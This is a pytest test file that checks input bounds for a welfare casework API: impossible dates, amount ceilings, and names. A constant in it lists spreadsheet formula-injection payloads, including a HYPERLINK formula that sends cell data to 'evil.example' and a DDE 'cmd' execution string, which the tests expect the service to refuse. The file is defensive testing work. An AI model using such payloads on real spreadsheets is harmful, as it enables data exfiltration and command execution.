"""Bounded input at casework's door (issue 17): instants and dates within the years a record can have, amounts
within what a program can pay, names that are names. Each refusal is a 422 naming the field, and changes nothing.

- Finding 8: `updated_since` in year 1 or 9999 on the province's pull was a 500.
- Finding 9: an import with `monthly_amount` "999999999999999.99" was accepted, and every later roster of the
  county failed; standards and proposals are held to the ceilings too.
- Finding 10 and 15: formulas as names were accepted (and reached finance's spreadsheet); invisible characters that
  reorder or hide a name are removed.
"""

from __future__ import annotations

import base64
import json
from datetime import date
from typing import Any

import pytest
from sqlalchemy import func, select

from libs.contracts.programs import Program
from libs.contracts.staff import Scope, StaffRole
from services.casework.case.models import Case, CaseInvestigation
from services.casework.local_figures.models import StandardFigure
from services.casework.registry.models import Household, HouseholdMember
from services.casework.relatives.models import StaffRelative
from tests.casework.flows import CASES, case_of_application
from tests.casework.support import (
    Broker,
    CaseworkApi,
    application,
    client,
    event,
    family,
    fresh_id,
    investigation_body,
    new_county,
    new_village,
    set_standards,
    staff,
    verification,
)

IMPORT = "/api/v1/casework/households/import"
RECIPIENTS = "/api/v1/province/recipients"
STANDARDS = "/api/v1/casework/standards"
REGISTER = "/api/v1/casework/close-relatives"

# Instants no record has: year 1 (and its offset that reaches year 0 in UTC) and year 9999.
IMPOSSIBLE_INSTANTS = ("0001-01-01T00:00:00+08:00", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59-12:00")
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3")


def _loc(reply: Any) -> list[list[Any]]:
    return [e["loc"] for e in reply.json()["errors"]]


# ---- finding 8: updated_since --------------------------------------------------------------------------------


@pytest.mark.parametrize("since", IMPOSSIBLE_INSTANTS)
async def test_updated_since_in_year_1_or_9999_is_a_422_naming_it(api: CaseworkApi, since: str) -> None:
    county = new_county()
    reply = await api.get(RECIPIENTS, client(Scope.province, county), {"updated_since": since})
    assert reply.status_code == 422, reply.text
    assert reply.headers["content-type"].startswith("application/problem+json")
    assert ["query", "updated_since"] in _loc(reply)
    # The bounds themselves are served.
    for edge in ("1970-01-01T00:00:00Z", "2099-12-31T23:59:59+08:00"):
        answer = await api.get(RECIPIENTS, client(Scope.province, county), {"updated_since": edge})
        assert answer.status_code == 200, answer.text


async def test_a_forged_cursor_in_year_1_is_a_422(api: CaseworkApi) -> None:
    raw = json.dumps({"after": ["0001-01-01T00:00:00+08:00", "hh-x"]}).encode()
    cursor = base64.urlsafe_b64encode(raw).decode().rstrip("=")
    reply = await api.get(RECIPIENTS, client(Scope.province, new_county()), {"cursor": cursor})
    assert (reply.status_code, reply.json()["code"]) == (422, "invalid_cursor")


# ---- finding 9: amounts --------------------------------------------------------------------------------------


def import_body(village: str, **overrides: Any) -> dict[str, Any]:
    people = family()
    body: dict[str, Any] = {
        "region_code": village,
        "legacy_ref": "LB-2019-0042",
        "members": [{"id_number": p.id_number, "name": p.name, "relation": p.relation} for p in people],
        "programs": [{"program": "dibao", "monthly_amount": "1300.00", "since": "2019-07"}],
        "review_class": "B",
        "next_review_date": "2027-01-01",
        "account": {"bank_code": "ICBC", "account_no": "6222020000001234567", "holder_name": people[0].name},
    }
    return body | overrides


async def _households_of(api: CaseworkApi, village: str) -> int:
    async with api.db.sessions() as s:
        return int(await s.scalar(select(func.count()).where(Household.region_code == village)) or 0)


async def test_an_import_above_the_programs_ceiling_is_refused_and_stores_nothing(api: CaseworkApi) -> None:
    county = new_county()
    village = new_village(county)
    officer = staff(StaffRole.county_officer, county)
    programs = [
        {"program": "disability_living", "monthly_amount": "90.00", "since": "2019-07"},
        {"program": "dibao", "monthly_amount": "999999999999999.99", "since": "2019-07"},
    ]
    reply = await api.post(IMPORT, officer, import_body(village, programs=programs))
    assert reply.status_code == 422, reply.text
    assert reply.json()["code"] == "amount_above_ceiling"
    assert _loc(reply) == [["body", "programs", 1, "monthly_amount"]]
    # Just above dibao's ceiling (50,000.00 a household and month) is refused too; the ceiling itself is not.
    just_above = [{"program": "dibao", "monthly_amount": "50000.01", "since": "2019-07"}]
    reply = await api.post(IMPORT, officer, import_body(village, programs=just_above))
    assert (reply.status_code, reply.json()["code"]) == (422, "amount_above_ceiling")
    assert await _households_of(api, village) == 0
    events = [e for e in await api.outbox_events(event_type="entitlement-changed") if e.data["region_code"] == village]
    assert events == []
    at_ceiling = [{"program": "dibao", "monthly_amount": "50000.00", "since": "2019-07"}]
    assert (await api.post(IMPORT, officer, import_body(village, programs=at_ceiling))).status_code == 201


async def test_an_import_with_a_formula_for_a_name_or_an_impossible_date_stores_nothing(api: CaseworkApi) -> None:
    county = new_county()
    village = new_village(county)
    officer = staff(StaffRole.county_officer, county)
    good = import_body(village)
    for formula in FORMULAS:
        named = [{**good["members"][0], "name": formula}, *good["members"][1:]]
        reply = await api.post(IMPORT, officer, {**good, "members": named})
        assert reply.status_code == 422, (formula, reply.text)
        assert ["body", "members", 0, "name"] in _loc(reply)
        holder = {**good["account"], "holder_name": formula}
        reply = await api.post(IMPORT, officer, {**good, "account": holder})
        assert ["body", "account", "holder_name"] in _loc(reply)
    bank = {**good["account"], "bank_code": "=1+1"}
    assert ["body", "account", "bank_code"] in _loc(await api.post(IMPORT, officer, {**good, "account": bank}))
    for day in ("0001-01-01", "9999-12-31"):
        reply = await api.post(IMPORT, officer, {**good, "next_review_date": day})
        assert ["body", "next_review_date"] in _loc(reply)
    for month in ("0001-01", "9999-12"):
        since = [{"program": "dibao", "monthly_amount": "1300.00", "since": month}]
        reply = await api.post(IMPORT, officer, {**good, "programs": since})
        assert ["body", "programs", 0, "since"] in _loc(reply)
    assert await _households_of(api, village) == 0


async def test_invisible_characters_are_removed_from_imported_names(api: CaseworkApi) -> None:
    county = new_county()
    village = new_village(county)
    body = import_body(village)
    # A right-to-left override and a zero-width space: the name would read, sort and match differently.
    body["members"][1]["name"] = "李\u202e秀\u200b英"
    reply = await api.post(IMPORT, staff(StaffRole.county_officer, county), body)
    assert reply.status_code == 201, reply.text
    async with api.db.sessions() as s:
        names = set(
            (
                await s.scalars(
                    select(HouseholdMember.name).where(HouseholdMember.household_id == reply.json()["household_id"])
                )
            ).all()
        )
    assert "李秀英" in names
    assert not any("\u202e" in n or "\u200b" in n for n in names)


async def test_a_standard_above_the_per_person_ceiling_is_refused_and_stores_nothing(api: CaseworkApi) -> None:
    county = new_county()
    officer = staff(StaffRole.county_officer, county)
    day = date(2031, 1, 1)
    for value in ("999999999999999.99", "20000.01"):
        body = {"region_prefix": county, "effective_from": day.isoformat(), "figures": {"dibao_standard": value}}
        reply = await api.post(STANDARDS, officer, body)
        assert (reply.status_code, reply.json()["code"]) == (422, "amount_above_ceiling"), reply.text
        assert reply.json()["errors"][0]["loc"] == ["body", "figures", "dibao_standard"]
    for bad_day in ("0001-01-01", "9999-12-31"):
        body = {"region_prefix": county, "effective_from": bad_day, "figures": {"dibao_standard": "700.00"}}
        reply = await api.post(STANDARDS, officer, body)
        assert ["body", "effective_from"] in _loc(reply)
    refused = await api.get(f"{STANDARDS}/in-force", officer, {"region_code": county, "on": "9999-12-31"})
    assert ["query", "on"] in _loc(refused)
    async with api.db.sessions() as s:
        stored = await s.scalar(select(func.count()).where(StandardFigure.region_prefix == county))
    assert stored == 0


async def _case_under_review(api: CaseworkApi, program: Program, *, investigated: bool = True) -> tuple[Case, str, str]:
    """A case of `program` investigated and awaiting the township's proposal (or, not `investigated`, awaiting the
    home investigation): (case, village, county)."""
    broker = Broker(api)
    county = new_county()
    village = new_village(county)
    await set_standards(api, county, dibao_standard_fen=70000)
    people = family()
    api.clock.set_day(date(2026, 3, 2))
    app = application(village, people, program=program)
    await broker.deliver(event(app, f"application/{app.application_id}"))
    await broker.deliver(event(verification(app.application_id, people), "application", source="matching"))
    case = await case_of_application(api, app.application_id)
    if investigated:
        township = staff(StaffRole.township_officer, village[:9])
        reply = await api.post(f"{CASES}/{case.id}/investigations", township, investigation_body(date(2026, 3, 2)))
        assert reply.status_code == 201, reply.text
    return await case_of_application(api, app.application_id), village, county


async def _unchanged(api: CaseworkApi, case: Case) -> None:
    after = await case_of_application(api, case.application_id or "")
    assert (after.status, after.version, after.proposed_amount_fen) == (case.status, case.version, None)


async def test_a_one_off_above_the_ceiling_is_refused_and_the_case_is_unchanged(api: CaseworkApi) -> None:
    case, village, _ = await _case_under_review(api, Program.TEMPORARY)
    township = staff(StaffRole.township_officer, village[:9])
    for amount in ("999999999999999.99", "200000.01"):
        body = {"outcome": "approved", "one_off_amount": amount}
        reply = await api.post(f"{CASES}/{case.id}/proposal", township, body)
        assert (reply.status_code, reply.json()["code"]) == (422, "amount_above_ceiling"), reply.text
        assert _loc(reply) == [["body", "one_off_amount"]]
    beyond = {"outcome": "approved", "one_off_amount": "800.00", "effective_month": "9999-12"}
    reply = await api.post(f"{CASES}/{case.id}/proposal", township, beyond)
    assert _loc(reply) == [["body", "effective_month"]]
    await _unchanged(api, case)


async def test_a_calculated_amount_above_the_ceiling_is_refused(api: CaseworkApi) -> None:
    """A standard written before the standards API checked it: the proposal it would give is refused, not paid."""
    case, village, _ = await _case_under_review(api, Program.DIBAO)
    # More specific than the county's 700.00: the village's standard, straight into the table.
    await set_standards(api, village, date(2021, 1, 1), dibao_standard_fen=10**12)
    reply = await api.post(
        f"{CASES}/{case.id}/proposal", staff(StaffRole.township_officer, village[:9]), {"outcome": "approved"}
    )
    assert (reply.status_code, reply.json()["code"]) == (422, "amount_above_ceiling"), reply.text
    await _unchanged(api, case)


# ---- dates and names in investigations and the close-relative register --------------------------------------


async def test_an_impossible_visit_or_a_formula_for_an_investigator_changes_nothing(api: CaseworkApi) -> None:
    case, village, _ = await _case_under_review(api, Program.DIBAO, investigated=False)
    township = staff(StaffRole.township_officer, village[:9])
    investigators = [{"user": "u-1", "name": '=HYPERLINK("x")'}, {"user": "u-2", "name": "调查员乙"}]
    refusals: list[tuple[dict[str, Any], list[Any]]] = [
        ({**investigation_body(date(2026, 3, 2)), "visited_on": "0001-01-01"}, ["body", "visited_on"]),
        ({**investigation_body(date(2026, 3, 2)), "visited_on": "9999-12-31"}, ["body", "visited_on"]),
        (investigation_body(date(2026, 3, 2), investigators=investigators), ["body", "investigators", 0, "name"]),
    ]
    for body, loc in refusals:
        reply = await api.post(f"{CASES}/{case.id}/investigations", township, body)
        assert reply.status_code == 422, reply.text
        assert loc in _loc(reply)
    huge = investigation_body(date(2026, 3, 2), obligor_support_monthly="999999999999999.99")
    reply = await api.post(f"{CASES}/{case.id}/investigations", township, huge)
    assert (reply.status_code, reply.json()["code"]) == (422, "amount_above_ceiling")
    assert _loc(reply) == [["body", "obligor_support_monthly"]]
    async with api.db.sessions() as s:
        rounds = await s.scalar(select(func.count()).where(CaseInvestigation.case_id == case.id))
    assert rounds == 0
    assert (await case_of_application(api, case.application_id or "")).status == case.status


async def test_a_filing_with_a_formula_for_a_name_stores_nothing(api: CaseworkApi) -> None:
    county = new_county()
    officer = staff(StaffRole.county_officer, county)
    relative = fresh_id(date(1980, 1, 1))
    for formula in FORMULAS:
        for where in ("staff_name", "relative"):
            body: dict[str, Any] = {
                "staff_user": "u-staff",
                "staff_name": formula if where == "staff_name" else "赵明",
                "staff_unit": "乡镇民政办",
                "staff_region": county,
                "relative": {"id_number": relative, "name": formula if where == "relative" else "赵亮"},
                "relation": "sibling",
            }
            reply = await api.post(REGISTER, officer, body)
            assert reply.status_code == 422, reply.text
    async with api.db.sessions() as s:
        stored = await s.scalar(select(func.count()).where(StaffRelative.staff_region == county))
    assert stored == 0
